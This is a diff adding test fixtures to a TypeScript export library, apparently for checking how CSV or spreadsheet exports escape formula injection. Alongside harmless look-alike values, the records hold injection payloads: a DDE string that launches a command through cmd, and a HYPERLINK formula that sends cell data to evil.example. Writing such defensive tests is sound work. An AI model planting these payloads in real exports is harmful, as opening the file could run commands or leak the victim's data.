@@ -76,6 +76,44 @@ export const RECORDS: ExportRecord[] = [
   { ...NULLS, id: '55555555-5555-4555-8555-555555555555', label: '"', doc: true, x: 123456789.125 },
 ];
 
+/** The characters a spreadsheet reads as the start of a formula (OWASP "CSV injection"), and the escape. */
+export const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', "'"] as const;
+
+/**
+ * Text that a spreadsheet would run as a formula, in every text-carrying type and position, next to
+ * values that only look alike: negative numbers (numbers, not formulas), a real leading `'`, formula
+ * characters inside or at the end of a text.
+ */
+export const FORMULA_RECORDS: ExportRecord[] = [
+  ...FORMULA_STARTS.map((start, i) => ({
+    ...NULLS,
+    id: `f0000000-0000-4000-8000-00000000000${i}`,
+    label: `${start}cmd|' /C calc'!A0`,
+    n: -5,
+    big: -9223372036854775808n,
+    x: -0.5,
+    price: '-12.50',
+    doc: `${start}HYPERLINK("http://evil.example/?"&A1,"click")`,
+    tags: [`${start}1+1`, 'plain'],
+  })),
+  { ...NULLS, id: 'f1000000-0000-4000-8000-000000000000', label: '=1+1', x: -Infinity, doc: { f: '=1' } },
+  { ...NULLS, id: 'f2000000-0000-4000-8000-000000000000', label: "'already quoted", price: '-0.0001' },
+  { ...NULLS, id: 'f3000000-0000-4000-8000-000000000000', label: "''two quotes", n: -9007199254740991 },
+  { ...NULLS, id: 'f4000000-0000-4000-8000-000000000000', label: "'", x: -1e-300 },
+  { ...NULLS, id: 'f5000000-0000-4000-8000-000000000000', label: '-5', doc: -5 },
+  { ...NULLS, id: 'f6000000-0000-4000-8000-000000000000', label: '-5+cmd', tags: [-1, '-x'] },
+  { ...NULLS, id: 'f7000000-0000-4000-8000-000000000000', label: 'a=b+c-d@e', doc: 'x=1' },
+  { ...NULLS, id: 'f8000000-0000-4000-8000-000000000000', label: '+36 30 123 4567' },
+  {
+    ...NULLS,
+    id: 'f9000000-0000-4000-8000-000000000000',
+    label: '@SUM(A1:A9)',
+    blob: Buffer.from([0xfb, 0xef]),
+  },
+  { ...NULLS, id: 'fa000000-0000-4000-8000-000000000000', label: '\r\n=2+2' },
+  { ...NULLS, id: 'fb000000-0000-4000-8000-000000000000', label: ' =not at the start' },
+];
+
 /** A dataset of the awkward fields over `records` (an array, or a generator for large runs). */
 export function awkwardDataset(
   records: ExportRecord[] | (() => AsyncIterable<ExportRecord>),
